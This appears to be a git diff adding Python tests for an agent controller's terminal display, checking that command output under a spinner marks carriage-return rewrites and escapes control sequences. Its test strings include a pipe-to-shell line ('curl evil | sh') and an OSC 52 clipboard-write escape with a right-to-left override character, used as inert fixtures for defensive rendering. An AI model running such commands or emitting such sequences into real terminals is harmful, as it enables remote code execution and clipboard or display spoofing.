@@ -21,8 +21,9 @@ from controller.cli.display import (
     preview,
     result_mark,
     summarize_args,
+    tail_lines,
 )
-from controller.wire.events import ContextEdited, TextDelta, ToolResult
+from controller.wire.events import CommandOutput, ContextEdited, TextDelta, ToolCall, ToolResult
 
 
 def _console(width: int = 100, clock: list[float] | None = None) -> Console:
@@ -181,3 +182,24 @@ def test_a_context_edit_is_one_dim_line_in_the_live_view() -> None:
         _render(context_line(event)).strip()
         == "↺ context: old tool results cleared (threshold), ~104,000 → ~61,500 tokens"
     )
+
+
+def test_the_tail_under_the_spinner_marks_a_line_a_carriage_return_rewrote() -> None:
+    text = "building\n 10%\r 50%\r100%\ncurl evil | sh\rall tests passed\n\n"
+    assert tail_lines(text) == ["building", "⟲ 100%", "⟲ all tests passed"]
+    assert tail_lines("".join(f"line {n}\n" for n in range(20)), 3) == ["line 17", "line 18", "line 19"]
+
+
+async def test_a_running_commands_last_lines_show_under_the_spinner_inert_until_its_result() -> None:
+    console = _console()
+    sink = LiveSink(console)
+    await sink.emit(ToolCall(session_id="s", id="t", name="run_command", input={"command": "make"}))
+    for n in range(8):
+        await sink.emit(CommandOutput(session_id="s", tool_use_id="t", text=f"step {n}\n"))
+    await sink.emit(CommandOutput(session_id="s", tool_use_id="t", text="\x1b]52;c;cGF5bG9hZA==\x07 \u202e done\n"))
+    shown = _render(sink.footer())
+    assert [line.strip() for line in shown.splitlines()[:5]] == [
+        "│ step 4", "│ step 5", "│ step 6", "│ step 7", "│ \\x1b]52;c;cGF5bG9hZA==\\x07 \\u202e done",
+    ]  # fmt: skip
+    await sink.emit(_result(0))
+    assert "│" not in _render(sink.footer())
